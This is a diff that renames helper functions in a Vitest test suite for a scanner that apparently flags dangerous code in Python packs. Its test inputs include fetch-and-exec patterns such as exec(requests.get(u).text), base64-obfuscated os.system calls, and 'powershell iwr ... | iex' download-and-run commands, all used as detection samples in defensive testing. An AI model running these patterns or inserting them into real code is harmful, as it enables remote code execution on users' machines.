@@ -1,9 +1,9 @@
 import { describe, expect, it } from 'vitest';
-import { codeOf } from './read-pack.js';
+import { readPackCode } from './read-pack.js';
 
 /** The rules a file breaks, in the order of its lines. */
-async function rulesOf(source: string): Promise<string[]> {
-  return (await codeOf({ 'a.py': source })).findings.map(({ rule }) => rule);
+async function listRules(source: string): Promise<string[]> {
+  return (await readPackCode({ 'a.py': source })).findings.map(({ rule }) => rule);
 }
 
 describe('flags', () => {
@@ -111,7 +111,7 @@ describe('flags', () => {
     ['obfuscated-code', 'exec("\\x70\\x72\\x69\\x6e\\x74")'],
     ['hidden-command', 'import os, base64\nos.system(base64.b64decode("bHM=").decode())'],
   ])('%s: %s', async (rule, source) => {
-    const { findings } = await codeOf({ 'a.py': source });
+    const { findings } = await readPackCode({ 'a.py': source });
     expect(findings).toContainEqual(expect.objectContaining({ rule, severity: 'high', file: 'a.py' }));
   });
 });
@@ -153,7 +153,7 @@ describe('flags code from the network, however it reaches exec:', () => {
     'import builtins\nobject.__getattribute__(builtins, "exec")(CODE)',
   ])('%s', async (source) => {
     const code = source.replace('CODE', 'requests.get(u).text');
-    expect(await rulesOf(`import requests\n${code}`)).toContain('remote-code');
+    expect(await listRules(`import requests\n${code}`)).toContain('remote-code');
   });
 
   it.each([
@@ -164,7 +164,7 @@ describe('flags code from the network, however it reaches exec:', () => {
     'import socket\ns = socket.socket()\nexec(s.makefile().read())',
     'import aiohttp\nasync def f():\n  async with aiohttp.ClientSession() as s:\n    async with s.get(u) as r:\n      exec(await r.text())',
   ])('%s', async (source) => {
-    expect(await rulesOf(source)).toContain('remote-code');
+    expect(await listRules(source)).toContain('remote-code');
   });
 });
 
@@ -180,7 +180,7 @@ it.each([
   'b"cevag".decode("rot13")',
   'AES.new(key).decrypt(X)',
 ])('flags code that is spelled %s', async (code) => {
-  expect(await rulesOf(`import struct\nfrom Crypto.Cipher import AES\nexec(${code})`)).toEqual([
+  expect(await listRules(`import struct\nfrom Crypto.Cipher import AES\nexec(${code})`)).toEqual([
     'obfuscated-code',
   ]);
 });
@@ -191,7 +191,7 @@ it('reads letters that end in the byte of a sign as Python does', async () => {
     '# coding: shift_jis\nimport requests\nx = "\x83\x5c"; exec(requests.get(u).text) # "\n',
     'latin1',
   );
-  const { findings } = await codeOf({ 'a.py': source });
+  const { findings } = await readPackCode({ 'a.py': source });
   expect(findings).toContainEqual(expect.objectContaining({ rule: 'remote-code', line: 3 }));
 });
 
@@ -243,7 +243,7 @@ describe('mentions, but does not flag,', () => {
     ['network-at-import', 'import requests\nlatest = requests.get("https://x.example/version").json()'],
     ['deletes-folders', 'import shutil\nshutil.rmtree(folder)'],
   ])('%s: %s', async (rule, source) => {
-    const { findings } = await codeOf({ 'a.py': source });
+    const { findings } = await readPackCode({ 'a.py': source });
     expect(findings.map((one) => [one.rule, one.severity])).toEqual([[rule, 'low']]);
   });
 });
@@ -263,14 +263,14 @@ describe('has nothing to say about', () => {
     ['a builtin type by its name', 'import builtins\nisinstance(x, getattr(builtins, kind))'],
     ['words in a text or comment', '# exec(requests.get(u).text)\nx = "exec(base64.b64decode(y))"'],
   ])('%s', async (_, source) => {
-    expect(await rulesOf(source)).toEqual([]);
+    expect(await listRules(source)).toEqual([]);
   });
 });
 
 it('runs a downloaded picture through ffmpeg without a flag, for the picture is not a program', async () => {
   const source =
     'import urllib.request, subprocess\ndef go():\n  urllib.request.urlretrieve(u, picture)\n  subprocess.run(["ffmpeg", "-i", picture])';
-  expect(await rulesOf(source)).toEqual(['subprocess']);
+  expect(await listRules(source)).toEqual(['subprocess']);
 });
 
 it.each([
@@ -282,7 +282,7 @@ it.each([
   'powershell iwr https://x.example/a | iex',
   'pwsh -EncodedCommand AAAA',
 ])('flags the command %s', async (command) => {
-  expect(await rulesOf(`import os\nos.system(${JSON.stringify(command)})`)).toEqual(['download-command']);
+  expect(await listRules(`import os\nos.system(${JSON.stringify(command)})`)).toEqual(['download-command']);
 });
 
 it.each([
@@ -295,11 +295,11 @@ it.each([
   urllib.request.urlretrieve(u, picture)
   commands = {"git": ["git", "clone", u]}
   ${call}`;
-  expect(await rulesOf(source)).toEqual(['subprocess']);
+  expect(await listRules(source)).toEqual(['subprocess']);
 });
 
 it('mentions compiled files, which are not read', async () => {
-  const { findings } = await codeOf({
+  const { findings } = await readPackCode({
     'a.pyc': 'x',
     'lib/b.cpython-312-x86_64-linux-gnu.so': 'x',
     'c.so.py': '',
@@ -312,7 +312,7 @@ it('mentions compiled files, which are not read', async () => {
 
 it('gives line and sentence, and never the secret', async () => {
   const token = `ghp_${'aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zA1cD3'}`;
-  const { findings } = await codeOf({
+  const { findings } = await readPackCode({
     'config.json': `{\n  "token": "${token}"\n}`,
     '.env': 'TOKEN=1',
     'model.bin': token,
@@ -343,7 +343,7 @@ it('notes a key in a test, flags one in a document, and takes made-up ones for w
     'hf_FakeTokenForUnitTestsOnly0918273645zmxn',
     'ghp_9876543210zyxwvutsrqponmlkjihgfedcba',
   ];
-  const { findings } = await codeOf({
+  const { findings } = await readPackCode({
     'tests/conftest.py': `KEY = "${key}"`,
     'web/api.test.js': `const key = "${key}"`,
     'README.md': `Run with ${key}`,
@@ -358,7 +358,7 @@ it('notes a key in a test, flags one in a document, and takes made-up ones for w
 });
 
 it('orders findings by file and line, each rule once a line', async () => {
-  const { findings } = await codeOf({
+  const { findings } = await readPackCode({
     'b.py': 'eval(x); eval(y)\n\neval(z)',
     'a.py': 'import shutil\nshutil.rmtree(x)',
   });
@@ -368,12 +368,12 @@ it('orders findings by file and line, each rule once a line', async () => {
 it('says that it did not follow values that refer to one another without end', async () => {
   const names = Array.from({ length: 2000 }, (_, n) => `a${n % 50} = a${(n * 7) % 50} + a${(n * 3) % 50}\n`);
   const before = process.cpuUsage().user;
-  expect(await rulesOf(`${names.join('')}${'exec(a1)\n'.repeat(3000)}`)).toContain('unread-code');
+  expect(await listRules(`${names.join('')}${'exec(a1)\n'.repeat(3000)}`)).toContain('unread-code');
   expect((process.cpuUsage().user - before) / 1e6).toBeLessThan(10);
 });
 
 it('stays bounded on commands and calls without end', async () => {
-  const { findings } = await codeOf({
+  const { findings } = await readPackCode({
     'a.py': `import subprocess\nsubprocess.run("${'curl powershell '.repeat(20_000)}")\n`,
     'b.py': `def f(x): exec(x)\n${'f(f)\n'.repeat(5000)}`,
     'c.py': `import requests\n${'x = x + x + y\n'.repeat(3000)}${'exec(x)\n'.repeat(3000)}`,
